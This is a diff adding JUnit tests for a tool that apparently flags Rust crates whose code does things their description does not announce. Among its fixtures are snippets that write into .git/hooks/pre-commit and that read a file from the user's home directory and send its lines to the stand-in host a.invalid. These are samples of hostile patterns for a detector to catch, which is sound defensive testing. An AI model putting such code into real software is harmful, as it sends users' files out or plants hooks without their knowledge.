@@ -85,6 +85,73 @@ final class AnnouncedWorkTest {
   }
 
   @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "Spelling with hunspell|hunspell|0",
+        "Spelling (`hunspell`)|hunspell|0",
+        "Spelling|hunspell|1",
+        "Spelling with hunspell-data|hunspell|1",
+        "Spelling with zsh|zsh|1",
+      })
+  void aProgramThatThePageTellsIsAnnounced(String description, String program, int count) {
+    String source = "fn f() { std::process::Command::new(\"%s\").arg(\"-a\").output(); }";
+
+    assertThat(unstated(crate(description, "").file("src/lib.rs", source.formatted(program))))
+        .hasSize(count);
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "Sets up the hooks of a project|.git/hooks/pre-commit|0",
+        "Colors of text|.git/hooks/pre-commit|1",
+        "Sets up the hooks of a project|.git/config|1",
+      })
+  void hooksBelongToTheWorkOfACrateAboutHooks(String description, String path, int count) {
+    String source =
+        "fn f(r: &Path, c: &[&str]) {\n"
+            + "let to = r.join(\"%s\");\n"
+            + "std::fs::write(&to, c.join(\"\"));\n"
+            + "}";
+
+    assertThat(heavy(crate(description, "").file("src/lib.rs", source.formatted(path))))
+        .hasSize(count);
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '`',
+      value = {
+        "0|`for url in t.lines() { ureq::get(url).call(); }`",
+        "1|`for each in t.lines() { ureq::post(\"https://a.invalid/\").send_string(each); }`",
+        "1|`for url in t.lines() { ureq::get(\"https://a.invalid/\").query(\"q\", url).call(); }`",
+      })
+  void linesThatAreAddressesGoToWhereTheySay(int count, String body) {
+    String source =
+        "fn f() { let h = std::env::var(\"HOME\").unwrap();\n"
+            + "let t = std::fs::read_to_string(format!(\"{h}/.config/feeds.txt\")).unwrap();\n"
+            + body.replace("; ", ";\n")
+            + "}";
+
+    assertThat(heavy(crate("Reads feeds of a server", "").file("src/lib.rs", source)))
+        .hasSize(count);
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {"demo (+https://demo.invalid/bot)|0", "https://demo.invalid/bot|1"})
+  void aProgramTellsWhoItIs(String text, int count) {
+    String source =
+        "fn f() { let a = agent().user_agent(\"%s\");\nureq::get(&u).call(); }".formatted(text);
+
+    assertThat(unstated(crate("Finds dead links", "").file("src/lib.rs", source))).hasSize(count);
+  }
+
+  @ParameterizedTest
   @CsvSource({
     "A todo list, 0",
     "Trash can of the desktop, 0",
